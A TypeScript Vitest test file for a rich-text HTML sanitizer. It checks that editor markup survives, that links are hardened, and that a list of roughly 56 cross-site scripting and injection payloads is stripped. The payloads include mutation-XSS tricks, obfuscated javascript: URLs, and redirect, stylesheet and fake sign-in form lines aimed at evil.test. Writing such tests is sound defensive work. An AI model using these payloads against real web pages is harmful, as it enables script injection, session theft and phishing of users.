import { describe, expect, test } from 'vitest';
import { cleanHtml } from './rich-text.ts';

test('leaves the output of the editor unchanged', () => {
  const html =
    '<h2>News</h2><p>A <strong>bold</strong> <em>word</em>, <u>under</u> and <s>struck</s><br />next</p>' +
    '<ul><li><p>one</p></li></ul><ol><li>two</li></ol><blockquote><p>said</p></blockquote><pre><code>a &lt; b</code></pre><hr />';
  expect(cleanHtml(html)).toBe(html);
});

test('opens links in a new tab without a referrer', () => {
  expect(cleanHtml('<a href="https://wave.test/a?b=1&amp;c=2" class="x" onclick="y()">go</a>')).toBe(
    '<a href="https://wave.test/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">go</a>',
  );
  expect(cleanHtml('<a href="mailto:help@wave.test">write</a>')).toContain('href="mailto:help@wave.test"');
});

test('replaces tags by their allowed equivalents', () => {
  expect(cleanHtml('<h1>A</h1><h5>B</h5><b>c</b><i>d</i><del>e</del>')).toBe(
    '<h2>A</h2><h3>B</h3><strong>c</strong><em>d</em><s>e</s>',
  );
});

const attacks = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://tracker.test/pixel.gif">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.test">x</a>',
  '<a href="\\\\evil.test">x</a>',
  '<a href="/\\evil.test">x</a>',
  '<a href="https://wave.test@evil.test">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="https://wave.test" style="position:fixed;inset:0">x</a>',
  '<a href="https://wave.test" target="_self" onmouseover=alert(1)>x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p onclick="alert(1)" id="root" class="modal">x</p>',
  '<div style="position:fixed">x</div>',
  '<style>@import "https://evil.test/x.css";</style>',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<base href="https://evil.test/">',
  '<form action="https://evil.test"><input name=password><button>Sign in</button></form>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<video><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<p>a<!-- --!><img src=x onerror=alert(1)> -->b</p>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</p>',
  '<a href="https://wave.test/&quot;onmouseover=&quot;alert(1)">x</a>',
  '<p/onclick=alert(1)>x',
  '<p\u0000 onclick=alert(1)>x</p>',
  `${'<blockquote>'.repeat(500)}<script>alert(1)</script>`,
];

describe('removes', () => {
  test.each(attacks)('%s', (attack) => {
    const clean = cleanHtml(attack);
    expect(tagsOf(clean).filter((tag) => !harmless.test(tag))).toEqual([]);
    expect(cleanHtml(clean)).toBe(clean);
    expect(cleanHtml(`<p>${clean}</p>`)).not.toMatch(/<script|<img/i);
  });
});

/** Every tag a browser could see in it, with its attributes. */
const tagsOf = (html: string): string[] => html.match(/<[^>]*>?/g) ?? [];
const harmless =
  /^<(?:\/?(?:p|h2|h3|strong|em|u|s|ul|ol|li|blockquote|code|pre)|\/a|br \/|hr \/|a(?: href="(?:https?:\/\/|mailto:)[^"\s<>@\\]*")? rel="noopener noreferrer nofollow" target="_blank")>$/;
